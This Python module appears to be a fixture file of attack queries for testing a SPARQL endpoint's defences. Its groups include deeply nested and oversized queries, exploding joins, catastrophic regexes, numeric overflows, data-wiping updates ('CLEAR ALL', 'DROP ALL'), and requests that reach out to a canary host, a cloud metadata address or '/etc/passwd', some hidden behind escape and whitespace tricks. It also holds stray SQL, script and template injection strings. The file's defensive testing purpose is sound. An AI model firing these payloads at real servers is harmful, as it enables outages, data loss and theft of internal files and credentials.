"""Attacks by queries: what a stranger asks, by class.

``QUERIES`` go to ``/sparql`` as they are; addresses, headers and bodies are in
``attack_requests``. What each must not do is in ``test_attacks``.
"""

from __future__ import annotations

CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
TWO = "?a ?b ?c . ?d ?e ?f"
FORM = "application/x-www-form-urlencoded"
XSD = "http://www.w3.org/2001/XMLSchema#"
GRAPH = "https://w3id.org/partnering/graph/catalogue"


def many(text: str, count: int, between: str = " ") -> str:
    """The text over and over, ``#`` in it numbered."""
    return between.join(text.replace("#", str(number)) for number in range(count))


def nested(opening: str, count: int, inside: str, closing: str) -> str:
    return opening * count + inside + closing * count


def doubled(times: int, grow: str = "CONCAT(?x#,?x#)") -> str:
    """A string that grows from one BIND to the next."""
    steps = " ".join(f"BIND ({grow.replace('#', str(n))} AS ?x{n + 1})" for n in range(times))
    return f'SELECT (STRLEN(?x{times}) AS ?n) {{ BIND ("aaaaaaaa" AS ?x0) {steps} }}'


def matched(pattern: str, text: str = "a" * 60 + "!") -> str:
    return f'SELECT * {{ {TWO} FILTER REGEX(CONCAT("{text}", STR(?a)), "{pattern}") }}'


DEPTH = {
    "brackets to the cap": "SELECT (" + nested("(", 45, "1", ")") + " AS ?x) {}",
    "brackets past the cap": "SELECT (" + nested("(", 49, "1", ")") + " AS ?x) {}",
    "brackets by thousands": "SELECT (" + nested("(", 15_000, "1", ")") + " AS ?x) {}",
    "brackets never closed": "SELECT * { " + "{" * 30_000,
    "brackets only closed": "SELECT * { " + "}" * 30_000,
    "calls": "SELECT (" + nested("STR(", 960, "1", ")") + " AS ?x) {}",
    "calls to the cap": "SELECT (" + nested("STR(", 45, "1", ")") + " AS ?x) {}",
    "exists": "ASK { " + nested("FILTER EXISTS { ", 896, "?s ?p ?o", " }") + " }",
    "exists to the cap": "ASK { " + nested("?s ?p ?o FILTER EXISTS { ", 40, "?s ?p ?o", " }") + " }",
    "not exists": "ASK { " + nested("?s ?p ?o FILTER NOT EXISTS { ", 46, "?s ?p ?o", "}") + " }",
    "optionals": "SELECT * { " + nested("?s ?p ?o OPTIONAL { ", 46, "?o ?q ?r", " }") + " }",
    "sub-selects": "SELECT * { " + nested("{ SELECT * { ", 23, CROSS, " } }") + " }",
    "minus": "SELECT * { ?s ?p ?o " + nested("MINUS { ?s ?p ?o ", 45, "", " }") + " }",
    "unions": "SELECT * { " + nested("{ ?s ?p ?o } UNION { ", 45, "?s ?p ?o", " }") + " }",
    "nots": "ASK { FILTER (" + "!" * 30_000 + "true) }",
    "nots to the cap": "ASK { FILTER (" + "!" * 390 + "true) }",
    "signs": "SELECT (1" + "- -1" * 190 + " AS ?x) {}",
    "sums": "SELECT (1" + "+1" * 7168 + " AS ?x) {}",
    "lists": "ASK { ?s ?p " + nested("(", 46, "1", ")") + " }",
    "blank nodes": "ASK { ?s ?p " + nested("[ ?q ", 46, "1", "]") + " }",
    "triple terms": "ASK { ?s ?p " + nested("<<( <a:a> <a:b> ", 46, "1", ")>>") + " }",
    "triple terms by thousands": "ASK { ?s ?p " + nested("<<( <a:a> <a:b> ", 1_500, "1", ")>>") + " }",
    "path groups": "ASK { ?s " + nested("(", 46, "<a:b>", ")*") + " ?o }",
    "ifs": "SELECT (" + nested("IF(true, ", 46, "1", ", 2)") + " AS ?x) {}",
}  # fmt: skip
LENGTH = {
    "spaces": "ASK {" + " " * 40_000 + "}",
    "a comment": "ASK { # " + "x" * 40_000 + "\n}",
    "a string": 'ASK { ?s ?p "' + "x" * 32_000 + '" }',
    "a string never closed": 'ASK { ?s ?p "' + "x" * 32_000,
    "a long string never closed": 'ASK { ?s ?p """' + '"" ' * 9_000,
    "an IRI": "ASK { ?s ?p <http://e/" + "x" * 32_000 + "> }",
    "an IRI never closed": "ASK { ?s ?p " + "<" * 32_000,
    "a variable": "SELECT ?" + "x" * 32_000 + " {}",
    "prefixes": many("PREFIX p#: <http://e/#>", 900) + " ASK {}",
    "values": "SELECT * { VALUES ?x { " + many("<http://e/#>", 1_800) + " } ?x ?p ?o }",
    "a list to be in": "SELECT * { ?s ?p ?o FILTER (?o IN (" + many("'#'", 390, ",") + ")) }",
    "arguments": "SELECT (CONCAT(" + many("'#'", 390, ",") + ") AS ?x) {}",
    "columns": "SELECT " + many("(# AS ?x#)", 390) + " {}",
    "bases on bases": "BASE <http://e/> " + many("BASE <a#/>", 2000) + " ASK {}",
    "a long base": "BASE <http://e/"
    + "a/" * 9000
    + "> "
    + many("PREFIX p#: <../b>", 300)
    + " ASK {}",
    "a long way up": "BASE <http://e/"
    + "a/" * 900
    + "> SELECT (IRI('"
    + "../" * 5000
    + "x') AS ?x) {}",
    "escapes": "ASK { ?s ?p '" + "\\u0041" * 5000 + "' }",
    "escapes in names": "PREFIX e: <http://e/> ASK { ?s ?p e:" + "\\~" * 9000 + " }",
    "a language": "SELECT (STRLANG('x', '" + "a-" * 9000 + "b') AS ?x) {}",
    "described things": "DESCRIBE " + many("<http://e/#>", 390),
}
PLANS = {
    "patterns without a bond": "SELECT * { " + many("?a# ?b# ?c# .", 64) + " } LIMIT 1",
    "a chain": "SELECT (COUNT(*) AS ?n) { " + many("?x# ?p# ?x1# .", 60) + " }",
    "a star": "SELECT (COUNT(*) AS ?n) { " + many("?x ?p# ?y# .", 40) + " }",
    "a ring": "SELECT (COUNT(*) AS ?n) { ?a ?p ?b . ?b ?q ?c . ?c ?r ?d . ?d ?s ?a }",
    "unions": "SELECT * { " + many("{ ?s ?p ?o }", 60, " UNION ") + " } ORDER BY ?o",
    "unions joined": "SELECT * { " + many("{ ?s ?p ?o } UNION { ?o ?p ?s }", 30, " ") + " }",
    "optionals": "SELECT * { ?s ?p ?o " + many("OPTIONAL { ?s ?p# ?o# }", 60) + " }",
    "minuses": "SELECT * { ?s ?p ?o " + many("MINUS { ?s ?p# ?o# }", 60) + " }",
    "ors": "SELECT * { ?s ?p ?o FILTER (" + many("?o = '#'", 195, " || ") + ") }",
    "equalities": "SELECT * { " + CROSS + " FILTER (" + many("?a = ?d", 99, " && ") + ") }",
    "groups": "SELECT * { " + many("{ ?a# ?b# ?c# }", 60) + " } LIMIT 1",
    "values times values": "SELECT (COUNT(*) AS ?n) { "
    + many("VALUES ?x# { 1 2 3 4 5 6 7 8 9 }", 40)
    + " }",
    "values that fit anything": "SELECT (COUNT(*) AS ?n) { VALUES (?a ?b) { "
    + many("(UNDEF #) (# UNDEF)", 300)
    + " } VALUES (?b ?a) { "
    + many("(# UNDEF)", 300)
    + " } ?a ?c ?d }",
    "counts of counts": "SELECT * { "
    + many("{ SELECT (COUNT(*) AS ?n#) { ?a# ?b# ?c# . ?x# ?y# ?z# } }", 5)
    + " }",
    "lateral": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c LATERAL { SELECT * { ?d ?e ?f } ORDER BY ?f LIMIT 500 } }",
    "exists with a sort": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c FILTER EXISTS { SELECT ?d { ?d ?e ?f . ?g ?h ?i } ORDER BY ?i } }",
    "exists on each": "SELECT * { " + TWO + " FILTER EXISTS { ?a ?q ?f . ?f ?r ?a . ?x ?y ?z } }",
}
JOINS = {
    "three freely": f"SELECT (COUNT(*) AS ?n) {{ {CROSS} }}",
    "three that never meet": f"ASK {{ {CROSS} FILTER (?a = 'never') }}",
    "two, distinct": f"SELECT (COUNT(DISTINCT ?x) AS ?n) {{ {TWO} BIND (CONCAT(STR(?a),STR(?f)) AS ?x) }}",
    "two, grouped": f"SELECT ?a ?f (COUNT(*) AS ?n) {{ {TWO} }} GROUP BY ?a ?f",
    "two, built": f"CONSTRUCT {{ ?a ?e ?f }} WHERE {{ {TWO} }}",
    "two, all of it": f"SELECT * {{ {TWO} }}",
    "two, by offset": f"SELECT * {{ {TWO} }} OFFSET 1000000000 LIMIT 1",
    "graphs": "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?a ?b ?c } GRAPH ?h { ?d ?e ?f } GRAPH ?i { ?j ?k ?l } }",
    "sorted": f"SELECT * {{ {TWO} }} ORDER BY STR(?c) STR(?f) LIMIT 5",
    "sorted by digest": f"SELECT * {{ {TWO} }} ORDER BY SHA512(CONCAT(STR(?a),STR(?f))) LIMIT 5",
    "sorted at random": f"SELECT * {{ {TWO} }} ORDER BY RAND() LIMIT 5",
    "sorted within": f"SELECT * {{ {{ SELECT * {{ {TWO} }} ORDER BY ?f }} }} LIMIT 1",
}  # fmt: skip
STRINGS = {
    "doubled": doubled(32),
    "doubled further": doubled(60),
    "grown by replacing": doubled(9, "REPLACE(?x#, 'a', 'aaaaaaaaaaaaaaaaaaaaaaaa')"),
    "grown by escapes": doubled(24, "ENCODE_FOR_URI(CONCAT('%', ?x#, ?x#))"),
    "all in one": f"SELECT (GROUP_CONCAT(CONCAT(STR(?a),STR(?f))) AS ?x) {{ {TWO} }}",
    "one a row": f"SELECT (CONCAT({many('STR(?c)', 300, ',')}) AS ?x) {{ ?a ?b ?c }}",
    "digests": f"SELECT (MAX(SHA512(CONCAT(STR(?c),STR(?f)))) AS ?x) {{ {TWO} }}",
    "parts": f"SELECT (MAX(SUBSTR(STR(?c), 2147483647, 2147483647)) AS ?x) {{ {TWO} }}",
    "whole numbers": f"SELECT ({many('9999999999', 190, '*')} AS ?x) {{}}",
    "fractions": f"SELECT ({many('0.000000001', 190, '/')} AS ?x) {{}}",
    "exponents": "SELECT (1e308*1e308 AS ?x) (-1/0 AS ?y) (1e-999999999 AS ?z) {}",
    "dates": "SELECT (YEAR('999999999999-01-01T00:00:00Z'^^<http://www.w3.org/2001/XMLSchema#dateTime>) AS ?x) {}",
}  # fmt: skip
REGULAR = {
    "nested repeats": matched("^(a+)+$"),
    "alternatives": matched("^(a|aa)+$"),
    "optional letters": matched("^" + "a?" * 60 + "a" * 60 + "$"),
    "counted counts": matched("((a{1000}){1000}){1000}"),
    "a large count": matched("a{4000000000}"),
    "a large class": matched("[\\\\p{L}\\\\p{N}]{900}"),
    "many groups": matched("(" * 250 + "a" + ")" * 250),
    "a back reference": matched("(a+)\\\\1+$"),
    "look-around": matched("(?=a+$)a"),
    "not a pattern": matched("(((["),
    "a pattern of each row": f"SELECT (COUNT(*) AS ?n) {{ {TWO} FILTER REGEX(STR(?c), STR(?f)) }}",
    "letters counted twice": "SELECT * { ?a ?b ?c FILTER REGEX(STR(?c), '(\\\\p{L}{1,500}){1,500}') }",
    "a hundred": "SELECT * { ?a ?b ?c " + many("FILTER REGEX(STR(?c), '\\\\w{200}#')", 100) + " }",
    "a group five thousand times": "SELECT (REPLACE(STR(?c), '(.)', '"
    + "$1" * 5000
    + "') AS ?x) { ?a ?b ?c }",
    "nothing replaced": "SELECT (REPLACE(CONCAT("
    + many("STR(?c)", 300, ",")
    + "), '', 'xxxxxxxxxxxxxxxxxxxx') AS ?x) { ?a ?b ?c }",
    "classes within classes": "SELECT * { ?a ?b ?c FILTER REGEX(STR(?c), '"
    + "[\\\\p{L}--a]" * 50
    + "') }",
    "what is found, a thousand times": "SELECT (REPLACE('"
    + "a" * 3000
    + "', 'a', '"
    + "$0" * 9000
    + "') AS ?x) {}",
    "replacing": f"SELECT (MAX(REPLACE(STR(?c), '(.*)*', '$0$0$0')) AS ?x) {{ {TWO} }}",
}
PATHS = {
    "everything, any way": "SELECT (COUNT(*) AS ?n) { ?s (<a:a>|!<a:a>)* ?o }",
    "both ways": "SELECT (COUNT(*) AS ?n) { ?s (!<a:a>|^!<a:a>)+ ?o }",
    "stars in stars": "SELECT * { ?s ((((!<a:a>)*)*)*)* ?o } ORDER BY ?o",
    "long": "SELECT * { ?s " + many("!<a:a>", 60, "/") + " ?o }",
    "wide": "SELECT * { ?s (" + many("<a:#>", 60, "|") + ")* ?o }",
    "longer than the cap": "SELECT * { ?s " + many("<a:#>", 300, "/") + " ?o }",
    "maybes": "SELECT * { ?s " + many("(!<a:a>)?", 30, "/") + " ?o }",
    "of no length": "SELECT (COUNT(*) AS ?n) { ?s <a:a>? ?o . ?t <a:b>* ?u }",
    "there and back": "SELECT (COUNT(*) AS ?n) { ?s ((!<a:a>/^!<a:b>)*|(^!<a:c>/!<a:d>)*)* ?o }",
    "stars in a row": "SELECT (COUNT(*) AS ?n) { ?s " + many("(!<a:a>)*", 20, "/") + " ?o }",
    "in what does not exist": "SELECT * { ?s ?p ?o FILTER NOT EXISTS { ?o (!<a:a>|^!<a:a>)* ?s } }",
    "from every value": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o . ?o (^!<a:a>)* ?x }",
    "not this, nor back": "SELECT (COUNT(*) AS ?n) { ?s (!(<a:a>|^<a:b>))* ?o }",
    "two at once": "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>)* ?b . ?c (!<a:b>)* ?d }",
}
UPDATES = {
    "insert": "INSERT DATA { <a:a> <a:b> <a:c> }",
    "clear": "CLEAR ALL",
    "load": "LOAD <http://CANARY/load>",
    "load a file": "LOAD <file:///etc/passwd>",
    "after a query": "ASK {} ; CLEAR ALL",
    "hidden by a comment": "# ASK {}\nDROP ALL",
}
OUTWARD = {
    "service": "SELECT * { SERVICE <http://CANARY/a> { ?s ?p ?o } }",
    "service, silent": "SELECT * { SERVICE SILENT <http://CANARY/b> { ?s ?p ?o } }",
    "service by variable": "SELECT * { BIND (<http://CANARY/c> AS ?u) SERVICE ?u { ?s ?p ?o } }",
    "service run together": "SELECT * {SERVICE<http://CANARY/d>{?s ?p ?o}}",
    "service in small letters": "select * { service <http://CANARY/e> { ?s ?p ?o } }",
    "service by escapes": "SELECT * { S\\u0045RVICE <http://CANARY/f> { ?s ?p ?o } }",
    "service by prefix": "PREFIX c: <http://CANARY/> SELECT * { SERVICE c:g { ?s ?p ?o } }",
    "service in exists": "ASK { ?s ?p ?o FILTER EXISTS { SERVICE <http://CANARY/h> { ?s ?p ?o } } }",
    "service in a sub-select": "SELECT * { { SELECT * { SERVICE <http://CANARY/i> {} } } }",
    "service to a file": "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
    "service to metadata": "SELECT * { SERVICE <http://169.254.169.254/latest/> { ?s ?p ?o } }",
    "service by long escapes": "SELECT * { \\U00000053ERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service behind an escaped line end": "SELECT * { ?s <a:a> ?o # \\u000ASERVICE <http://CANARY/x> { ?s ?p ?o }\n }",
    "service behind an escaped quote": "SELECT * { BIND ('\\u0027 AS ?x) SERVICE <http://CANARY/x> {} BIND ('' AS ?y) }",
    "service after a next line": "SELECT * { # x\u0085 SERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "from in a sub-select": "SELECT * { { SELECT * FROM <http://CANARY/x> { ?s ?p ?o } } }",
    "a function elsewhere": "SELECT (<http://CANARY/f>(1) AS ?x) (<bif:http_get>('http://CANARY/') AS ?y) {}",
    "service after a carriage return": "SELECT * { # x\rSERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service after a form feed": "SELECT * {\fSERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service after a hard space": "SELECT * {\u00a0SERVICE\u00a0<http://CANARY/x> { ?s ?p ?o } }",
    "service after a line separator": "SELECT * { # x\u2028SERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service after a backslash": "SELECT * { BIND ('\\\\' AS ?x) SERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service after four quotes": 'SELECT * { BIND ("""\\"""" AS ?x) SERVICE <http://CANARY/x> { ?s ?p ?o } }',
    "service between comparisons": "SELECT * { FILTER(1<2)SERVICE<http://CANARY/x>{?s ?p ?o}FILTER(3>2) }",
    "service with a long s": "SELECT * { \u017fERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service in minus": "SELECT * { ?a ?b ?c MINUS { SERVICE <http://CANARY/x> { ?a ?b ?c } } }",
    "service in lateral": "SELECT * { ?a ?b ?c LATERAL { SERVICE ?c { ?a ?b ?c } } }",
    "service where graphs are built": "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service where things are described": "DESCRIBE ?s { SERVICE <http://CANARY/x> { ?s ?p ?o } }",
    "service at any IRI of the data": "SELECT * { ?x ?p ?u FILTER isIRI(?u) SERVICE ?u { ?s ?q ?o } }",
    "from by prefix": "PREFIX c: <http://CANARY/> SELECT * FROM c:x FROM NAMED c:y { ?s ?p ?o }",
    "from relative": "SELECT * FROM <../../../etc/passwd> { ?s ?p ?o }",
    "from other schemes": "SELECT * FROM <jar:file:///x!/y> FROM NAMED <ftp://CANARY/x> FROM <gopher://CANARY/> { ?s ?p ?o }",
    "from nine hundred": "SELECT * " + many("FROM <a:#>", 900) + " { ?s ?p ?o }",
    "from": "SELECT * FROM <http://CANARY/j> { ?s ?p ?o }",
    "from named": "SELECT * FROM NAMED <http://CANARY/k> { GRAPH ?g { ?s ?p ?o } }",
    "from by base": "BASE <http://CANARY/> SELECT * FROM <l> { ?s ?p ?o }",
    "from by escapes": "SELECT * FROM <http\\u003A//CANARY/m> { ?s ?p ?o }",
    "from a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "graph": "SELECT * { GRAPH <http://CANARY/n> { ?s ?p ?o } }",
    "describe": "DESCRIBE <http://CANARY/o>",
}
TEXT = {
    "a null": "ASK { ?s ?p '\0' }",
    "nulls": "\0" * 1000,
    "a byte order mark": "\ufeffASK {}",
    "right to left": "ASK { ?s ?p '\u202e' } # \u202e",
    "private letters": "SELECT ?\U0010fffd {}",
    "noncharacters": "ASK { ?s ?p '\uffff\ufdd0' }",
    "marks upon marks": "ASK { ?s ?p '" + "e\u0301\u0301" * 5000 + "' }",
    "surrogates by escapes": "ASK { ?s ?p '\\uD800\\uDC00 \\U00110000' }",
    "nothing": "",
    "only a comment": "# nothing",
    "another language": "SELECT * FROM users; DROP TABLE users; --",
    "markup": "<script>alert(1)</script>",
    "a template": "{{ 7*7 }} {% for x in y %}",
}
AGGREGATES = {
    "by everything": f"SELECT ?a ?c ?f (GROUP_CONCAT(STR(?e)) AS ?x) {{ {TWO} }} GROUP BY ?a ?c ?f",
    "of aggregates, grown": "SELECT (CONCAT(?x,?x,?x,?x,?x,?x,?x,?x) AS ?y) { { SELECT (GROUP_CONCAT(CONCAT(STR(?s),STR(?o))) AS ?x) { ?s ?p ?o } } }",
    "having, of all in one": f"SELECT ?a {{ {TWO} }} GROUP BY ?a HAVING (GROUP_CONCAT(STR(?f)) = 'x')",
    "a long separator": f"SELECT (GROUP_CONCAT(DISTINCT CONCAT(STR(?a),STR(?f)); separator='{'x' * 1000}') AS ?x) {{ {TWO} }}",
    "distinct rows": f"SELECT (COUNT(DISTINCT *) AS ?x) {{ {TWO} }}",
    "ninety": "SELECT "
    + many("(COUNT(DISTINCT CONCAT(STR(?a),'#')) AS ?x#)", 90)
    + f" {{ {TWO} }}",
    "having": f"SELECT ?a {{ {TWO} }} GROUP BY ?a HAVING (COUNT(DISTINCT ?f) > 1 && SUM(STRLEN(STR(?f))) > 1)",
    "of aggregates": f"SELECT (SUM(?n) AS ?m) {{ {{ SELECT ?a (COUNT(*) AS ?n) {{ {TWO} }} GROUP BY ?a }} }}",
}
ROWS = {
    "values crossed": "SELECT (COUNT(*) AS ?n) { "
    + many("VALUES ?v# { " + many("1", 40) + " }", 12)
    + " }",
    "values that hold nothing": "SELECT (COUNT(*) AS ?n) { VALUES (?a ?b) { "
    + "(UNDEF UNDEF) " * 800
    + "} VALUES (?a ?b) { "
    + "(UNDEF 1) " * 800
    + "} VALUES (?a ?b) { "
    + "(1 UNDEF) " * 400
    + "} }",
    "a wide row": "SELECT * { VALUES (" + many("?v#", 1500) + ") { (" + many("1", 1500) + ") } }",
    "sub-selects crossed": "SELECT DISTINCT ?a ?f { { SELECT DISTINCT ?a { ?a ?b ?c } } { SELECT DISTINCT ?f { ?d ?e ?f } } } ORDER BY ?f",
    "lateral": "SELECT * { ?a ?b ?c LATERAL { ?d ?e ?f LATERAL { ?g ?h ?i } } }",
    "lateral, limited": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c LATERAL { SELECT * { ?c ?e ?f . ?g ?h ?i } LIMIT 1000000 } }",
    "names made for each": f"SELECT (BNODE() AS ?x) (STRUUID() AS ?u) {{ {TWO} }} ORDER BY ?u",
    "hardly any, at random": f"SELECT * {{ {CROSS} FILTER (RAND() < 0.000000001) }}",
    "in what each makes": "SELECT * { ?s ?p ?o FILTER (?o IN ("
    + many("CONCAT(STR(?s),'#')", 90, ",")
    + ")) }",
    "sorted by sixty": f"SELECT * {{ {TWO} }} ORDER BY " + many("STR(?a) DESC(?f)", 60),
    "sorted by what exists": f"SELECT * {{ ?a ?b ?c }} ORDER BY EXISTS {{ {CROSS} FILTER (?a = ?d) }}",
    "bound to what exists": "SELECT * { ?a ?b ?c BIND (EXISTS { ?d ?e ?f . ?g ?h ?i FILTER (?i = CONCAT(STR(?c), 'z')) } AS ?x) }",
    "optional, filtered": "SELECT * { ?a ?b ?c OPTIONAL { ?d ?e ?f FILTER (CONCAT(STR(?c),STR(?f)) = 'x') } }",
    "identifiers": f"SELECT DISTINCT (UUID() AS ?u) (BNODE(STR(?f)) AS ?v) {{ {TWO} }}",
    "offsets past counting": "SELECT * { ?a ?b ?c } LIMIT 18446744073709551615 OFFSET 18446744073709551615",
    "a graph named by each": "SELECT (COUNT(*) AS ?n) { "
    + many("GRAPH ?g# { ?s ?p ?o# }", 30)
    + " }",
    "a graph hundreds of times": "SELECT (COUNT(*) AS ?n) "
    + f"FROM <{GRAPH}> " * 400
    + "{ ?a ?b ?c . ?d ?e ?f }",
}
GRAPHS = {
    "a wide template": "CONSTRUCT { " + many("?a <a:#> ?f .", 60) + f" }} WHERE {{ {TWO} }}",
    "blank nodes": "CONSTRUCT { " + many("[] ?b [ ?b ?c ] .", 20) + " } WHERE { ?a ?b ?c }",
    "lists": "CONSTRUCT { ?a ?b (" + "?c " * 60 + ") } WHERE { ?a ?b ?c }",
    "all described": "DESCRIBE * { ?a ?b ?c }",
    "all described, crossed": f"DESCRIBE * {{ {CROSS} }}",
    "values as subjects": "CONSTRUCT { ?c ?b ?a } WHERE { ?a ?b ?c }",
    "triple terms": f"SELECT (TRIPLE(?a, ?b, TRIPLE(?d, ?e, ?f)) AS ?t) {{ {TWO} }}",
    "reifiers": "SELECT * { << ?s ?p << ?a ?b << ?c ?d ?e >> >> >> ?x ?y . ?z ?q << ?s ?p ?o ~ ?r >> {| ?m ?n |} }",
}
NUMBERS = {
    "a long integer": "SELECT (" + "9" * 30_000 + " AS ?x) {}",
    "a long fraction": "SELECT (0." + "9" * 30_000 + " AS ?x) {}",
    "a long exponent": "SELECT (1e" + "9" * 30_000 + " AS ?x) {}",
    "a long text as one": f"SELECT (<{XSD}integer>('{'9' * 30_000}') AS ?x) (<{XSD}decimal>('{'9' * 99}') AS ?y) {{}}",
    "the least": "SELECT (-9223372036854775807 - 2 AS ?a) (-9223372036854775808 / -1 AS ?b) (ABS(-9223372036854775808) AS ?c) {}",
    "the largest squared": "SELECT (9223372036854775807 * 9223372036854775807 AS ?a) {}",
    "the last of days": f"SELECT (?d + 'P99999999999Y'^^<{XSD}duration> AS ?z) (?d - '-99999-01-01T00:00:00Z'^^<{XSD}dateTime> AS ?y) {{ BIND ('9999999999-12-31T23:59:59.999999999999Z'^^<{XSD}dateTime> AS ?d) }}",
    "ages": f"SELECT (-'-P9223372036854775808M'^^<{XSD}yearMonthDuration> AS ?y) {{}}",
    "a zone that is none": f"SELECT (TIMEZONE('2020-01-01T00:00:00+99:99'^^<{XSD}dateTime>) AS ?x) {{}}",
    "places past the end": "SELECT (SUBSTR('é𝕏', -1e308, 1e308) AS ?x) (SUBSTR('é𝕏', 0.5, 0/0) AS ?y) {}",
}
QUERIES: dict[str, str] = {
    f"{family}: {name}": query
    for family, held in {
        "depth": DEPTH, "length": LENGTH, "plan": PLANS, "join": JOINS, "string": STRINGS,
        "regex": REGULAR, "path": PATHS, "aggregate": AGGREGATES, "row": ROWS, "graph": GRAPHS,
        "number": NUMBERS, "update": UPDATES, "outward": OUTWARD, "text": TEXT,
    }.items()
    for name, query in held.items()
}  # fmt: skip
